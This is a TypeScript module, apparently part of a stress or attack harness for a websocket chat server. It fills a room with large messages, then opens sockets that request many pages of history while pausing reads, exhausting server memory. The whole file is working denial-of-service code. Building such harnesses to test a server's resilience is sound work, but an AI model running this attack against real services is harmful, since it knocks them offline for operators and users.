import type { Attack } from './attack.ts';
import type { Attacker } from './attacker.ts';

/** The largest message there is; as many of them as fill a page. */
const contentCharacters = 8_192;
const messages = 64;
/** What each reader asks for at once: 16 MiB, several times as much as may wait for it. */
const pagesAtOnce = 32;

/** Asks for pages of history, the largest there are, and does not read them before it is too late. */
export const unreadHistory: Attack = async (attacker, force) => {
  const room = await fillRoom(attacker);
  if (room === undefined) return;
  await attacker.keep(force, async (socket) => {
    const name = attacker.newName();
    if ((await socket.ask({ action: 'identify', payload: { username: name } }, 'joined')) !== 'joined')
      return;
    socket.pause();
    for (let page = 0; page < pagesAtOnce; page += 1)
      socket.send({ action: 'history', payload: { room, limit: messages } });
    await attacker.pause(force.everyMs);
    socket.resume();
    await Promise.race([socket.closed, attacker.pause(force.everyMs)]);
  });
};

/** Makes a room with a page of history. @returns Its name; undefined where that is refused. */
async function fillRoom(attacker: Attacker): Promise<string | undefined> {
  const socket = await attacker.connect();
  if (!socket) return undefined;
  const room = attacker.newName();
  const username = attacker.newName();
  await socket.ask({ action: 'identify', payload: { username } }, 'joined');
  await socket.ask({ action: 'createRoom', payload: { room } }, 'roomsList');
  const entered = await socket.ask({ action: 'joinRoom', payload: { room } }, 'joined');
  if (entered !== 'joined') return undefined;
  for (let sent = 0; sent < messages; sent += 1) {
    const message = { room, message: 'x'.repeat(contentCharacters) };
    await socket.ask({ action: 'sendMessage', payload: message }, 'message');
  }
  socket.terminate();
  return room;
}
